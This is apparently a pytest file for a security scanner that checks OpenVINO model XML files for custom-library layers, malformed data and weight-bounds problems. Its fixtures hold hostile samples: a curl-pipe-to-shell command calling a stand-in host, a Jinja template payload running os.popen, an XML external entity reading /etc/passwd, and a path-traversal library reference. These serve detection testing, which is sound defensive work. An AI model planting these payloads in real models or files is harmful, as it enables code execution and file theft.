"""OpenVINO IR: layers that need libraries of others are named, and XML's own dangers too."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from garrison import scan
from garrison.core.facts import Artifact
from tests.support import examine_bytes, facts_of, findings_of, worst


def layer(kind: str, version: str = "opset1", inner: str = "", **attributes: str) -> str:
    extra = "".join(f' {key}="{value}"' for key, value in attributes.items())
    stated = f' version="{version}"' if version else ""
    return f'<layer id="0" name="l" type="{kind}"{stated}{extra}>{inner}</layer>'


def net(*layers: str, version: str = "11", runtime: str = "") -> bytes:
    body = f"<layers>{''.join(layers)}</layers><edges/><rt_info>{runtime}</rt_info>"
    return f'<?xml version="1.0"?><net name="n" version="{version}">{body}</net>'.encode()


CONSTANT = layer("Const", inner='<data element_type="f32" shape="2" offset="8" size="8"/>')
ORDINARY = net(layer("Parameter"), CONSTANT, layer("Add"), layer("Result"))


def test_an_ordinary_model_tells_of_itself_and_is_no_finding() -> None:
    assert findings_of(ORDINARY, "model.xml") == []
    details = next(fact.details for fact in facts_of(ORDINARY, "model.xml") if isinstance(fact, Artifact))
    assert details == {"name": "n", "ir_version": "11", "layers": 4, "weights_end": 16}


@pytest.mark.parametrize(
    "one",
    [
        layer("Input", version=""),
        layer("FullyConnected", version=""),
        layer("VocabDecoder", version="extension"),
        layer("BrandNew", version="opset99"),
        layer("TensorIterator", inner=f"<body><layers>{CONSTANT}</layers></body>"),
    ],
)
def test_old_new_and_official_layers_are_ordinary(one: str) -> None:
    assert findings_of(net(one, version="6"), "model.xml") == []


@pytest.mark.parametrize("version", ["extension", "opset1", "", "my_opset"])
def test_a_layer_of_no_known_set_needs_a_library(version: str) -> None:
    (found,) = findings_of(net(layer("Sneaky", version=version)), "model.xml")
    assert (found.rule, found.severity, found.place) == ("custom-operator", "medium", "line 1, layer 'l'")


def test_layers_in_the_bodies_of_loops_count() -> None:
    body = f'<data x="1"/><then_body><layers>{layer("Sneaky", "mine")}</layers></then_body>'
    assert [f.rule for f in findings_of(net(layer("If", "opset8", body)), "m.xml")] == ["custom-operator"]


def test_python_layers_commands_and_libraries() -> None:
    found = findings_of(net(layer("Python", "", library="../../tmp/evil.so")), "m.xml")
    assert {(f.rule, str(f.severity)) for f in found} == {("python-operator", "high"), ("escaping-reference", "high")}
    commanded = layer("Sneaky", "mine", inner='<data run="curl http://e.example/x | sh"/>')
    assert [f.rule for f in findings_of(net(commanded), "m.xml")] == ["suspicious-call"]
    (beside,) = findings_of(net(layer("Add", library="mine.so")), "m.xml")
    assert (beside.rule, beside.severity) == ("library-reference", "medium")


def test_templates_in_the_runtime_information_are_judged() -> None:
    value = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    for element in (f'<chat_template value="{value}"/>', f'<info name="chat_template" value="{value}"/>'):
        assert worst(findings_of(net(runtime=element), "m.xml")) == "critical"
    assert findings_of(net(runtime='<chat_template value="{{ bos_token }}"/>'), "m.xml") == []


def test_what_is_stated_before_the_document_breaks_stays() -> None:
    broken = net(layer("Sneaky", "mine")).partition(b"<edges")[0]
    assert {f.rule for f in findings_of(broken, "m.xml")} == {"custom-operator", "malformed"}


def test_an_external_entity_in_a_model_is_high() -> None:
    data = b'<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net version="10">&x;</net>'
    assert examine_bytes(data, "m.xml")[-1].formats == ["openvino"]
    assert {"xml-external-entity", "escaping-reference"} <= {f.rule for f in findings_of(data, "m.xml")}


def test_other_documents_are_no_models() -> None:
    for data in (b"<html><net/></html>", b"<?xml version='1.0'?><PMML/>", b"<network version='1'/>"):
        assert examine_bytes(data, "x.xml")[-1].formats != ["openvino"]


def test_weights_beside_a_model_are_no_gap(tmp_path: Path) -> None:
    folder = tmp_path
    (folder / "model.xml").write_bytes(ORDINARY)
    (folder / "model.bin").write_bytes(bytes(range(200, 216)))
    (folder / "other.bin").write_bytes(bytes(range(200, 216)))
    report = scan(str(folder))
    assert [entry.subject.rpartition("/")[2] for entry in report.coverage.entries] == ["other.bin"]
    formats = {item.subject.rpartition("/")[2]: item.formats for item in report.inventory}
    assert formats["model.bin"] == ("raw-data",)


def test_tensors_are_held_against_the_file_of_weights() -> None:
    assert findings_of({"a/model.xml": ORDINARY, "a/model.bin": bytes(16)}) == []
    (short,) = findings_of({"a/model.xml": ORDINARY, "a/model.bin": bytes(15)})
    assert (short.rule, short.severity, short.subject) == ("weights-out-of-bounds", "low", "a/model.xml")
    (long,) = findings_of({"a/model.xml": ORDINARY, "a/model.bin": bytes(16 + 9000)})
    assert (long.rule, long.subject, long.place) == ("trailing-data", "a/model.bin", "@ 0x10")


@given(st.integers(0, len(ORDINARY)), st.binary(max_size=6))
def test_damaged_models_never_raise(cut: int, noise: bytes) -> None:
    assert all(e.state != "failed" for e in examine_bytes(ORDINARY[:cut] + noise + ORDINARY[cut:], "m.xml"))
    assert all(e.state != "failed" for e in examine_bytes(ORDINARY[:cut], "m.xml"))


def test_a_long_attribute_hides_nothing() -> None:
    hostile = net(layer("Evil", "extension"))
    padded = hostile.replace(b"<net ", b'<net padding="' + b"A" * (2 << 20) + b'" ', 1)
    assert examine_bytes(padded)[-1].formats == ["openvino"]
    assert {item.rule for item in findings_of(padded)} >= {item.rule for item in findings_of(hostile)}
